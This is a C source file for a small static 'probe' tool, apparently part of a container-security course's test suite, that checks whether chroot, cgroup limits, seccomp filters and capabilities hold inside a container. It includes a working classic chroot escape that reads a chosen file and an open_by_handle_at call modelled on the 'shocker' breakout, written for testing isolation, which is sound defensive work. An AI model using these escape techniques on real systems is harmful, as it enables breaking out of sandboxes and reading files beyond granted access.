// probe: a tiny static multi-tool that runs inside test containers, for what busybox
// cannot show reliably. Built by the tests (and the chapters' labs) with
//     cc -static -O2 -o probe tools/probe/probe.c
// and copied into a rootfs. Each subcommand prints one short line a check can parse.
//
//   probe chroot-escape PATH   break out of a chroot (the classic way) and cat PATH
//   probe alloc MIB            allocate and touch MIB MiB, print "allocated MIB"
//   probe fork-until-refused   fork sleeping children until fork fails, print the count
//   probe spin SECONDS         burn CPU for SECONDS of wall time
//   probe syscall NAME         try one system call with harmless arguments (chapter 7),
//                              print "ok" or its errno's name (EPERM, ENOSYS, ...)
//   probe open-by-handle PATH  name_to_handle_at(PATH), then open_by_handle_at of that
//                              handle (the 2014 "shocker" breakout's call): "opened" or
//                              the errno's name
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int usage(void) {
    fprintf(stderr, "usage: probe chroot-escape PATH | alloc MIB | fork-until-refused | spin SECONDS | syscall NAME"
                    " | open-by-handle PATH\n");
    return 2;
}

// The classic chroot breakout. chroot(2) changes where "/" resolves for this process,
// but not its working directory. So: chroot into a subdirectory while the working
// directory stays outside it, and ".." is no longer stopped at the (new) root; climb
// until ".." is itself, then chroot(".") there — the real root of the mount namespace.
static int chroot_escape(const char *path) {
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) { printf("chroot failed: %s\n", strerror(errno)); return 1; }
    for (int i = 0; i < 256; i++) {
        if (chdir("..") != 0) break;
    }
    if (chroot(".") != 0) { printf("second chroot failed: %s\n", strerror(errno)); return 1; }
    int fd = open(path, O_RDONLY);
    if (fd < 0) { printf("not reachable: %s: %s\n", path, strerror(errno)); return 1; }
    char buffer[4096];
    ssize_t n;
    printf("escaped: ");
    fflush(stdout);
    while ((n = read(fd, buffer, sizeof buffer)) > 0) fwrite(buffer, 1, (size_t)n, stdout);
    return 0;
}

static int alloc(long mib) {
    size_t size = (size_t)mib << 20;
    char *memory = malloc(size);
    if (!memory) { printf("malloc failed\n"); return 1; }
    // Touch every page: untouched memory is only promised, never charged to a cgroup.
    for (size_t i = 0; i < size; i += 4096) memory[i] = 1;
    printf("allocated %ld\n", mib);
    return 0;
}

static int fork_until_refused(void) {
    // A process group of our own, so that the kill(0, ...) below reaches our children
    // and nothing else: without a new session the container shares the runtime's
    // group on the host. And a cap, so a missing pids limit is a failed check rather
    // than a fork bomb on the host.
    setpgid(0, 0);
    int count = 0;
    for (; count < 500; count++) {
        pid_t pid = fork();
        if (pid < 0) break;
        if (pid == 0) { pause(); _exit(0); }
    }
    printf("forked %d\n", count);
    fflush(stdout);
    // Take the children down with us: they are in our process group.
    signal(SIGTERM, SIG_IGN);
    kill(0, SIGTERM);
    while (wait(NULL) > 0) {}
    return 0;
}

static int spin(double seconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    volatile unsigned long counter = 0;
    do {
        for (int i = 0; i < 100000; i++) counter++;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
    printf("spun %.1f\n", seconds);
    return 0;
}

// Each call with arguments that make it fail harmlessly if it is allowed (a missing
// path, a bad descriptor, a bad command), so only a filter or a missing capability can
// answer EPERM or ENOSYS. Never one that changes the host.
static long try_syscall(const char *name) {
    if (strcmp(name, "mount") == 0) return syscall(SYS_mount, "none", "/nonexistent-probe", "tmpfs", 0L, NULL);
    if (strcmp(name, "umount2") == 0) return syscall(SYS_umount2, "/nonexistent-probe", 0L);
    if (strcmp(name, "unshare") == 0) return syscall(SYS_unshare, (long)CLONE_NEWUSER);
    if (strcmp(name, "setns") == 0) return syscall(SYS_setns, -1L, 0L);
    if (strcmp(name, "keyctl") == 0) return syscall(SYS_keyctl, 0xffffL, 0L, 0L, 0L, 0L);
    if (strcmp(name, "add_key") == 0) return syscall(SYS_add_key, "user", "", NULL, 0L, -1L);
    if (strcmp(name, "request_key") == 0) return syscall(SYS_request_key, "user", "", NULL, -1L);
    if (strcmp(name, "bpf") == 0) return syscall(SYS_bpf, 0xffffL, NULL, 0L);
    if (strcmp(name, "ptrace") == 0) return syscall(SYS_ptrace, 0xffffL, 0x7fffffffL, NULL, NULL);
    if (strcmp(name, "reboot") == 0) return syscall(SYS_reboot, 0L, 0L, 0L, NULL);  // bad magic: EINVAL
    if (strcmp(name, "kexec_load") == 0) return syscall(SYS_kexec_load, 0L, 0L, NULL, 0xdead0000L);
    if (strcmp(name, "init_module") == 0) return syscall(SYS_init_module, NULL, 0L, "");
    if (strcmp(name, "finit_module") == 0) return syscall(SYS_finit_module, -1L, "", 0L);
    if (strcmp(name, "delete_module") == 0) return syscall(SYS_delete_module, "nonexistent_probe", 0L);
    if (strcmp(name, "swapon") == 0) return syscall(SYS_swapon, "/nonexistent-probe", 0L);
    if (strcmp(name, "swapoff") == 0) return syscall(SYS_swapoff, "/nonexistent-probe");
    if (strcmp(name, "open_by_handle_at") == 0) return syscall(SYS_open_by_handle_at, -1L, NULL, 0L);
    // Not in the default profile at all: the filter's default action answers.
    if (strcmp(name, "migrate_pages") == 0) return syscall(SYS_migrate_pages, 0L, 0L, NULL, NULL);
    // clone(CLONE_NEWUSER) needs no capability: only the filter's comparison of
    // clone's flags refuses it (chapter 7's checks: an argument filter left out).
    if (strcmp(name, "clone-newuser") == 0) {
        long pid = syscall(SYS_clone, (long)(CLONE_NEWUSER | SIGCHLD), NULL, NULL, NULL, NULL);
        if (pid == 0) _exit(0);
        if (pid > 0) waitpid((pid_t)pid, NULL, 0);
        return pid > 0 ? 0 : -1;
    }
    if (strcmp(name, "clone-newns") == 0) {
        long pid = syscall(SYS_clone, (long)(CLONE_NEWNS | SIGCHLD), NULL, NULL, NULL, NULL);
        if (pid == 0) _exit(0);
        if (pid > 0) waitpid((pid_t)pid, NULL, 0);
        return pid > 0 ? 0 : -1;
    }
    errno = 0;
    return -2;
}

static int print_errno(long result) {
    if (result == -2 && errno == 0) return usage();
    if (result >= 0) {
        printf("ok\n");
    } else {
        const char *name = strerrorname_np(errno);
        printf("%s\n", name ? name : "unknown errno");
    }
    return 0;
}

static int open_by_handle(const char *path) {
    struct { struct file_handle handle; unsigned char bytes[128]; } buffer;
    buffer.handle.handle_bytes = sizeof buffer.bytes;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, path, &buffer.handle, &mount_id, 0) == -1) return print_errno(-1);
    int mount_fd = open(path, O_RDONLY | O_DIRECTORY);
    if (mount_fd == -1) return print_errno(-1);
    int fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &buffer.handle, O_RDONLY);
    if (fd == -1) return print_errno(-1);
    printf("opened\n");
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) return usage();
    if (strcmp(argv[1], "chroot-escape") == 0 && argc == 3) return chroot_escape(argv[2]);
    if (strcmp(argv[1], "alloc") == 0 && argc == 3) return alloc(atol(argv[2]));
    if (strcmp(argv[1], "fork-until-refused") == 0) return fork_until_refused();
    if (strcmp(argv[1], "spin") == 0 && argc == 3) return spin(atof(argv[2]));
    if (strcmp(argv[1], "syscall") == 0 && argc == 3) return print_errno(try_syscall(argv[2]));
    if (strcmp(argv[1], "open-by-handle") == 0 && argc == 3) return open_by_handle(argv[2]);
    return usage();
}
